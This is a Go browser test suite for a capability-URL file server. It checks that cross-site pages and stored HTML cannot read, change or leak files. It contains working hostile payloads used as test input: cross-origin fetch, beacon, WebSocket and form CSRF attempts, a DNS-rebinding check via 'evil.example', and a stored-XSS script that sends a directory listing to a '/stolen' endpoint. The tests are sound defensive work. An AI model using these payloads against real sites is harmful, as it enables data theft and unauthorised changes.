package browser_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"
)

// settle lets happen what should not.
func settle() { time.Sleep(500 * time.Millisecond) }

// A stranger is another site. It serves pages, and notes what it is asked for and by whom.
type stranger struct {
	*httptest.Server
	mu    sync.Mutex
	pages map[string]string
	asked []string // the paths and referrers
}

func newStranger(t *testing.T) *stranger {
	t.Helper()
	s := &stranger{pages: map[string]string{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		if r.URL.Path != "/favicon.ico" {
			s.asked = append(s.asked, r.URL.RequestURI()+" from "+r.Referer())
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(s.pages[r.URL.Path])) // the browser may have gone
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *stranger) serve(path, page string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.pages[path] = page
	return s.URL + path
}

func (s *stranger) requests() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.asked...)
}

// attempts are what a page can try at an address, and what came of each.
const attempts = `(async () => {
	const tried = {};
	const attempt = async (name, f) => { try { tried[name] = await f() } catch (e) { tried[name] = 'refused' } };
	const read = (o) => async () => { const r = await fetch(target, o); return r.type === 'opaque' ? 'opaque' : r.status + ' ' + await r.text() };
	await attempt('GET', read({}));
	await attempt('blind GET', read({ mode: 'no-cors' }));
	await attempt('POST', read({ method: 'POST', body: new URLSearchParams({ t: 'mkdir', name: 'by fetch' }) }));
	await attempt('blind POST', read({ method: 'POST', mode: 'no-cors', body: new URLSearchParams({ t: 'mkdir', name: 'by blind fetch' }) }));
	await attempt('PUT', () => fetch(target + 'by-put', { method: 'PUT', body: 'x' }).then((r) => r.status));
	await attempt('DELETE', () => fetch(target + 'kept.txt', { method: 'DELETE' }).then((r) => r.status));
	await attempt('beacon', () => { navigator.sendBeacon(target + '?t=mkdir&name=by-beacon', ''); return 'sent' });
	await attempt('WebSocket', () => new Promise((yes, no) => { const s = new WebSocket(target.replace(/^http/, 'ws').replace(/uri.*/, 'private/logs/v1')); s.onopen = () => yes('open'); s.onerror = no }));
	await attempt('script', () => new Promise((yes) => { const s = document.createElement('script'); s.src = target + '?t=json'; s.onload = () => yes('ran'); s.onerror = () => yes('refused'); document.body.append(s) }));
	await attempt('frame', () => new Promise((yes) => { const f = document.createElement('iframe'); f.src = target; f.onload = () => { try { yes(f.contentDocument ? 'seen' : 'refused') } catch { yes('refused') } }; document.body.append(f) }));
	return JSON.stringify(tried);
})()`

// A page of another site reads nothing and changes nothing, whatever it tries and although it knows the capability.
func TestHostilePage(t *testing.T) {
	d := newDesk(t)
	d.put(d.root+"kept.txt", "this stays")
	s := newStranger(t)
	page := s.serve("/", fmt.Sprintf(`<!DOCTYPE html><title>evil</title><body><script>const target = %s</script>
<form action="%s" method="post" enctype="multipart/form-data" target="out"><input name="t" value="mkdir"><input name="name" value="by form"></form>
<iframe name="out"></iframe>`, quote(d.root), d.root))
	p := d.open(800, 600)
	p.visit(page)
	got := p.eval(attempts).(string)
	for _, leak := range []string{"kept.txt", "this stays", `"200`, `"201`, ":200", ":201", `"open"`, `"seen"`, `"ran"`} {
		if strings.Contains(got, leak) {
			t.Errorf("a page of another site got through: %s in %s", leak, got)
		}
	}
	p.eval(`document.forms[0].submit()`)
	settle()

	t.Log("by a name of the stranger's that leads to the node")
	rebound := strings.Replace(d.root, "127.0.0.1", "evil.example", 1)
	p.visit(rebound)
	if text := p.eval(`document.body.innerText`).(string); !strings.Contains(text, "does not answer to that host name") || strings.Contains(text, "kept.txt") {
		t.Errorf("by another name the node says %q", text)
	}
	got = p.eval(`const target = ` + quote(rebound) + `; ` + attempts).(string)
	for _, leak := range []string{"kept.txt", "this stays", `"200`, `"201`, ":200", ":201", `"open"`} {
		if strings.Contains(got, leak) {
			t.Errorf("a page of a name that was turned to the node got through: %s in %s", leak, got)
		}
	}

	owner := d.open(800, 600)
	owner.visit(d.root)
	owner.waitNames("kept.txt")
}

// A stored page runs nothing, frames nothing of the node, sends no form, and tells nobody where it is.
func TestStoredPageTellsNothing(t *testing.T) {
	d := newDesk(t)
	s := newStranger(t)
	d.put(d.root+"secret.txt", "a secret")
	d.put(d.root+"bait.html", fmt.Sprintf(`<!DOCTYPE html><title>bait</title>
<img id="image" src="%[1]s/image"><link rel="stylesheet" href="%[1]s/style"><iframe id="far" src="%[1]s/frame"></iframe>
<iframe id="near" src="secret.txt"></iframe><iframe id="up" src="./?t=json"></iframe>
<a id="link" href="%[1]s/link" referrerpolicy="unsafe-url">away</a> <a id="sibling" href="./">up</a>
<form id="form" action="%[1]s/form" method="post"><input name="a" value="b"></form>
<form id="own" action="./?t=unlink&name=secret.txt" method="post"></form>
<script>document.title = 'ran'; fetch('./?t=json').then((r) => r.text()).then((x) => fetch('%[1]s/stolen?' + x))</script>
<img src="x" onerror="location = '%[1]s/stolen'"><meta http-equiv="refresh" content="0; url=javascript:document.title='ran'">`, s.URL))
	p := d.open(800, 600)
	p.visit(d.root + "bait.html")
	p.wait(`document.querySelector('#image').complete`)
	p.eval(`document.querySelector('#form').submit()`)
	p.eval(`document.querySelector('#own').submit()`)
	settle()
	if title := p.eval(`document.title`); title != "bait" {
		t.Errorf("the title is %v, want that nothing ran and nothing was left", title)
	}
	for _, frame := range []string{"near", "up"} {
		seen := p.eval(`(() => { try { return document.querySelector('#` + frame + `').contentDocument?.body?.innerText ?? '' } catch { return '' } })()`).(string)
		if strings.Contains(seen, "secret") || strings.Contains(seen, "URI:") {
			t.Errorf("the frame %s shows %q", frame, seen)
		}
	}
	p.click("#link")
	p.wait(`location.pathname === '/link'`)
	for _, asked := range s.requests() {
		path, from, _ := strings.Cut(asked, " from ")
		if strings.Contains(asked, "URI") || strings.Contains(from, "/uri/") {
			t.Errorf("the stranger learnt of a capability: %s", asked)
		}
		if strings.HasPrefix(path, "/stolen") || strings.HasPrefix(path, "/form") {
			t.Errorf("the stranger got %s", asked)
		}
	}
	owner := d.open(800, 600)
	owner.visit(d.root)
	owner.waitNames("bait.html|secret.txt")
}
